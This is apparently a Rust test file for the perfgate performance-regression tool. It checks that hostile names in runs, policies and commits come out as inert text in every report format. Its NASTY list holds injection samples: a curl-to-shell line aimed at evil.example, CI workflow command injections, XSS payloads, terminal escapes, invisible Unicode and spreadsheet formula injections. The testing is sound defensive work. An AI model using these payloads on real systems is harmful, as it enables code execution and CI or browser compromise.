//! No name does anything but be read, in whatever output it stands: every text of a run, of a policy and of a commit is each
//! of these once, and every output is held against the same one of plain names.

use crate::support::files;
use crate::support::inspect::{
    assert_annotations, assert_cells, assert_markdown, assert_plain, assert_same_markup,
    assert_sarif, assert_xml,
};
use crate::support::{Repo, clean, command};
use serde_json::{Map, Value, json};
use std::collections::BTreeMap;
use std::path::Path;
use tempfile::TempDir;

/// What people and machines have put into names.
const NASTY: [&str; 32] = [
    "\u{1b}[31mred\u{1b}[0m\u{9b}2J",
    "a\r\n\tb",
    "\u{202e}txt.exe\u{2066}x",
    "\u{61c}\u{ad}\u{200b}hidden\u{feff}",
    "\u{e0068}\u{e0069}\u{e007f}tags",
    "line\u{2028}para\u{2029}end",
    "none\u{fffe}\u{ffff}\u{1fffe}\u{fdd0}",
    "nul\u{0}byte",
    "##[set-output name=markdown]x$(curl evil.example|sh)",
    "x ##[error]y",
    "::set-output name=verdict::pass",
    "\n::stop-commands::x\n/approve",
    "/approve",
    "<script>alert(1)</script>",
    "\"' onmouseover='alert(1)' x=\"",
    "</title></script><img src=x onerror=alert(1)>",
    "<!-- perfgate key=x run=9.9 sha=a rank=0 -->",
    "]]> &#x1b; &lt;b&gt; <![CDATA[",
    "![x](http://evil.example/x.png)",
    "[x](http://evil.example) www.evil.example",
    "@admin @o/everyone",
    "GH-9",
    "www.evil.example",
    "#12 GH-9 o/r#3 !4 &5 %6",
    "a | b | c",
    "\n\n### ✅ no regression\n\n| x |\n|---|",
    "`` ` ``` ~~~",
    "**bold** ~~gone~~ $x$ [^1] - [ ] x",
    "=cmd|' /C calc'!A0",
    "+1+1",
    "@SUM(1+1)*cmd",
    "－2＋3",
];

/// A name that is none of them, to see what a report makes by itself.
pub(super) const PLAIN: &str = "plain";

/// Texts of a run file that have a form of their own: what is no such text is refused.
const FORMED: [(&str, &str); 5] = [
    ("schema", "perfgate.run/1"),
    ("started_at", "2026-01-01T00:00:00Z"),
    ("unit of latency", "ms"),
    ("script_sha256", "0123456789abcdef"),
    ("fired_at", "2026-01-01T00:00:00Z"),
];

/// Parts of a run file that are left out: what they hold is checked elsewhere, or contradicts the rest.
const LEFT_OUT: [&str; 8] = [
    "commit",
    "histogram",
    "samples",
    "rounding",
    "half_steps",
    "error_rate",
    "outcomes",
    "unknown",
];

/// A run in which every text is this one, made from the schema of run files: a text that is new there is in it.
pub(super) fn run(text: &str, level: f64, number: usize) -> Value {
    let schema = Path::new(env!("CARGO_MANIFEST_DIR")).join("schemas/run.v1.json");
    let schema: Value = serde_json::from_str(&std::fs::read_to_string(schema).unwrap()).unwrap();
    let fill = Fill { schema: &schema, text, level: level * (1.0 + 0.01 * number as f64) };
    let mut run = fill.value("", &schema);
    let endpoint = run["endpoints"][0].clone();
    for kind in ["websocket", "grpc", "group", "scenario", "task"] {
        let mut other = endpoint.clone();
        other["kind"] = json!(kind);
        run["endpoints"].as_array_mut().unwrap().push(other);
    }
    let mut metric = run["metrics"][0].clone();
    metric.as_object_mut().unwrap().remove("endpoint");
    run["metrics"].as_array_mut().unwrap().push(metric);
    let unknown = json!({ "name": text, "condition": "other", "unknown": text });
    run["alerts"].as_array_mut().unwrap().push(unknown);
    run
}

/// The same run, in which one endpoint is slower and fails, a metric is worse, and a check never held.
fn slower(text: &str) -> Value {
    let (mut run, worse) = (run(text, 1.0, 1), run(text, 1.6, 0));
    for part in ["endpoints", "metrics"] {
        run[part][0] = worse[part][0].clone();
    }
    run["checks"][0]["passes"] = json!(0);
    run
}

struct Fill<'a> {
    schema: &'a Value,
    text: &'a str,
    level: f64,
}

impl Fill<'_> {
    fn value(&self, name: &str, schema: &Value) -> Value {
        if let Some(link) = schema["$ref"].as_str() {
            let target = self.schema.pointer(link.strip_prefix('#').unwrap()).unwrap();
            return self.value(name, target);
        }
        if let Some(any) = schema["anyOf"].as_array() {
            return self.value(name, &any[0]);
        }
        if let Some(choice) = schema["oneOf"].as_array() {
            return choice[0]["const"].clone();
        }
        let is = |wanted: &str| match &schema["type"] {
            Value::Array(types) => types.iter().any(|own| own == wanted),
            own => own == wanted,
        };
        if is("object") {
            self.object(name, schema)
        } else if is("array") {
            Value::Array(vec![self.value(name, &schema["items"])])
        } else if is("string") {
            self.string(name, schema)
        } else if is("integer") {
            self.count(name)
        } else if is("boolean") {
            json!(true)
        } else {
            self.number(name)
        }
    }

    fn object(&self, name: &str, schema: &Value) -> Value {
        let mut object = Map::new();
        for (key, own) in schema["properties"].as_object().into_iter().flatten() {
            if !LEFT_OUT.contains(&key.as_str()) {
                let key_of = match (name, key.as_str()) {
                    ("latency", "unit") => "unit of latency",
                    ("latency", "count") => "requests",
                    (_, key) => key,
                };
                object.insert(key.clone(), self.value(key_of, own));
            }
        }
        if let Some(own) = schema.get("additionalProperties").filter(|own| own.is_object()) {
            let keys: &[&str] =
                if name == "quantiles" { &["p50", "p95", "p99"] } else { &[self.text] };
            object.extend(keys.iter().map(|key| ((*key).to_owned(), self.value(key, own))));
        }
        Value::Object(object)
    }

    fn string(&self, name: &str, schema: &Value) -> Value {
        let formed = FORMED.iter().find(|(formed, _)| *formed == name).map(|(_, own)| *own);
        assert!(
            schema.get("pattern").is_none() || formed.is_some(),
            "{name} has a form of its own"
        );
        json!(formed.unwrap_or(self.text))
    }

    fn count(&self, name: &str) -> Value {
        let slower = self.level > 1.3;
        match name {
            "requests" => json!(6000),
            "failures" | "count" => json!(if slower { 300 } else { 3 }),
            _ => json!(10),
        }
    }

    fn number(&self, name: &str) -> Value {
        let ms = match name {
            "min" => 1.0,
            "p50" | "mean" => 50.0,
            "p95" => 100.0,
            "p99" => 150.0,
            "max" => 200.0,
            "duration_s" | "interval_s" => return json!(60.0),
            "holds_for_s" => return json!(10.0),
            _ => 10.0,
        };
        json!(ms * self.level)
    }
}

/// A text of a policy, whatever it holds: YAML in double quotes.
fn quoted(text: &str) -> String {
    let each = |c: char| match c {
        c if c.is_ascii_graphic() && c != '"' && c != '\\' => c.to_string(),
        c => format!("\\U{:08x}", u32::from(c)),
    };
    format!("\"{}\"", text.chars().map(each).collect::<String>())
}

fn policy(text: &str) -> String {
    let name = quoted(text);
    let pattern = quoted(&format!("* {text}"));
    format!(
        "gate: {{ missing_baseline: warn }}\n\
         regression_thresholds: {{ {name}: {{ relative: 5%, direction: lower }} }}\n\
         endpoints: {{ {pattern}: {{ p99: 11% }}, {}: {{ p95: 3% }} }}\n\
         budgets: [{{ {name}: \"< 1\" }}, {{ p95: 10ms }}, {{ operation: {pattern}, p95: 10ms }}]\n\
         profiles: {{ {name}: {{ description: {name}, environment: {name}, targets: {{ {}: \"< 2\" }} }} }}\n\
         rename: {{ {}: {name} }}\n\
         prometheus: {{ {}: {name} }}\n\
         alerts: [{{ name: {name}, condition: {name}, for: 10s, severity: warning }}, {{ name: {name}, condition: other }}, {{ name: {name}, condition: third }}]\n",
        quoted(&format!("idle {text}")),
        quoted(&format!("other {text}")),
        quoted(&format!("old {text}")),
        quoted(&format!("query {text}")),
    )
}

/// Everything that perfgate writes about such a run, by what it is.
fn outputs(text: &str) -> BTreeMap<String, String> {
    let scratch = TempDir::new().unwrap();
    let folder = scratch.path();
    let write =
        |name: &str, value: &Value| std::fs::write(folder.join(name), value.to_string()).unwrap();
    let read = |name: &str| std::fs::read_to_string(folder.join(name)).unwrap();
    std::fs::write(folder.join("perfgate.yaml"), policy(text)).unwrap();
    for number in 0..3 {
        write(&format!("base-{number}.json"), &run(text, 1.0, number));
    }
    write("new.json", &slower(text));
    let mut all = BTreeMap::new();
    let mut call = |what: &str, arguments: &[&str], codes: &[i32]| {
        let output = command(folder).args(arguments).output().unwrap();
        let code = output.status.code().unwrap();
        let err = String::from_utf8(output.stderr).unwrap();
        assert!(codes.contains(&code), "{what} of {text:?}: exit {code}: {err}");
        all.insert(what.to_owned(), String::from_utf8(output.stdout).unwrap());
        all.insert(format!("{what} stderr"), err);
    };
    let bases = [
        "--baseline-file",
        "base-0.json",
        "--baseline-file",
        "base-1.json",
        "--baseline-file",
        "base-2.json",
        "new.json",
    ];
    fn with<'a>(before: &[&'a str], bases: &[&'a str], after: &[&'a str]) -> Vec<&'a str> {
        [before, bases, after].concat()
    }
    let to_files = [
        "--output",
        "json=r.json",
        "--output",
        "markdown=r.md",
        "--output",
        "junit=r.xml",
        "--output",
        "sarif=r.sarif",
        "--output",
        "codequality=r.cq.json",
        "--output",
        "github=r.txt",
    ];
    call("table", &with(&["compare", "--all"], &bases, &to_files), &[1]);
    if !text.contains('\0') {
        let slow = format!("{text} {text} p95");
        call("explained table", &with(&["compare", "--explain", &slow], &bases, &[]), &[1, 2]);
    }
    call("page", &with(&["report", "--html", "page.html"], &bases, &[]), &[1]);
    call("full markdown", &with(&["report", "--full"], &bases, &[]), &[1]);
    call("check table", &["check", "new.json"], &[1, 3]);
    call("normalized json", &["normalize", "new.json"], &[0]);
    call("published markdown", &["publish", "--report", "r.json", "--forge", "none"], &[0]);
    call("selftest table", &["selftest", "base-0.json", "base-1.json", "base-2.json"], &[0, 1, 3]);
    call("init", &["init", "--alerts", "alerts.yml"], &[0]);
    for (what, name) in [
        ("report json", "r.json"),
        ("markdown", "r.md"),
        ("junit xml", "r.xml"),
        ("sarif json", "r.sarif"),
        ("quality json", "r.cq.json"),
        ("annotations", "r.txt"),
        ("page html", "page.html"),
        ("alerts yaml", "alerts.yml"),
    ] {
        all.insert(what.to_owned(), read(name));
    }
    all
}

/// What perfgate writes about recorded runs of commits whose authors, messages and runs hold this text.
fn outputs_of_history(text: &str) -> BTreeMap<String, String> {
    let repo = Repo::new();
    let one_line: String = text.chars().filter(|c| !matches!(c, '\0' | '\n' | '\r')).collect();
    let author = format!("x{}", one_line.replace(['<', '>'], ""));
    let commit = |message: &str| {
        let mut git = clean("git", &repo.folder);
        for who in ["AUTHOR", "COMMITTER"] {
            git.env(format!("GIT_{who}_NAME"), &author)
                .env(format!("GIT_{who}_EMAIL"), "x@example.com");
        }
        git.args(["commit", "--quiet", "--allow-empty", "--cleanup=verbatim", "-m", message]);
        assert!(git.output().unwrap().status.success());
    };
    let file = |name: &str, level: f64, number: usize| {
        let path = repo.around().join(name);
        std::fs::write(&path, run(text, level, number).to_string()).unwrap();
        path.to_str().unwrap().to_owned()
    };
    for number in 0..3 {
        commit(&one_line);
        repo.perfgate(&["record", &file("base.json", 1.0, number)]).expect(0);
    }
    commit(&format!(
        "{one_line}\n\nPerfgate-Accept: {one_line} {one_line} p95 <= +900% | {one_line}x"
    ));
    let new = repo.around().join("new.json");
    std::fs::write(&new, slower(text).to_string()).unwrap();
    let new = new.to_str().unwrap().to_owned();
    let mut all = BTreeMap::new();
    let mut call = |what: &str, arguments: &[&str]| {
        let ended = repo.perfgate(arguments);
        assert!(ended.code != 2, "{what} of {text:?}: {ended:?}");
        all.insert(what.to_owned(), ended.stdout);
        all.insert(format!("{what} stderr"), ended.stderr);
    };
    call("compare table", &["compare", "--baseline", "main~1", "--all", &new]);
    call("compare markdown", &["compare", "--baseline", "main~1", "--format", "markdown", &new]);
    call("list table", &["baseline", "list"]);
    call("explain baseline table", &["baseline", "explain", "--baseline", "main~1", &new]);
    call("shown json", &["baseline", "show", "--format", "json", "main~1"]);
    call("export", &["baseline", "export", "--format", "csv", "out"]);
    call("site", &["report", "--site", "site"]);
    if !text.contains('\0') {
        let like = ["--suite", text, "--profile", text, "--environment", text];
        for form in ["table", "markdown", "csv", "json"] {
            call(&format!("trend {form}"), &[&["trend", "--format", form][..], &like].concat());
        }
    }
    for (kind, folder) in [("exported", "out"), ("site", "site")] {
        for path in files(&repo.folder.join(folder)) {
            let ending = path.extension().unwrap().to_str().unwrap().to_owned();
            let kind = if path.ends_with("index.html") { "index" } else { kind };
            all.insert(format!("{kind} {ending}"), std::fs::read_to_string(path).unwrap());
        }
    }
    all
}

/// Holds each output against the rule of its kind, and against the same output of plain names.
fn check(text: &str, outputs: &BTreeMap<String, String>, plain: &BTreeMap<String, String>) {
    for (name, output) in outputs {
        let what = format!("{name} of {text:?}");
        let plain = &plain[name];
        assert_plain(&what, output);
        match name.rsplit(' ').next().unwrap() {
            "markdown" => assert_markdown(&what, output, plain),
            "html" => assert_same_markup(&what, output, plain),
            "xml" => assert_xml(&what, output),
            "csv" => assert_cells(&what, output),
            "annotations" => assert_annotations(&what, output, plain),
            "json" if name.starts_with("sarif") => assert_sarif(&what, output),
            "json" => drop(
                serde_json::from_str::<Value>(output).unwrap_or_else(|e| panic!("{what}: {e}")),
            ),
            "yaml" => {
                let read: Value =
                    serde_saphyr::from_str(output).unwrap_or_else(|e| panic!("{what}: {e}"));
                let other: Value = serde_saphyr::from_str(plain).unwrap();
                let rules = |read: &Value| read["groups"][0]["rules"].as_array().unwrap().len();
                assert_eq!(rules(&read), rules(&other), "{what}\n{output}");
            }
            _ => {}
        }
    }
}

#[test]
fn every_text_of_a_run_and_a_policy_is_only_read_in_every_output() {
    let plain = outputs(PLAIN);
    assert!(
        plain["markdown"].contains("slower") && plain["annotations"].lines().count() > 4,
        "{plain:#?}"
    );
    let texts: Vec<&str> = NASTY.to_vec();
    std::thread::scope(|scope| {
        for part in texts.chunks(texts.len().div_ceil(2)) {
            let plain = &plain;
            scope.spawn(move || part.iter().for_each(|text| check(text, &outputs(text), plain)));
        }
    });
}

#[test]
fn every_text_of_a_commit_and_a_record_is_only_read_in_every_output() {
    let plain = outputs_of_history(PLAIN);
    let texts: Vec<&str> = NASTY.to_vec();
    std::thread::scope(|scope| {
        for part in texts.chunks(texts.len().div_ceil(2)) {
            let plain = &plain;
            scope.spawn(move || {
                part.iter().for_each(|text| check(text, &outputs_of_history(text), plain));
            });
        }
    });
}
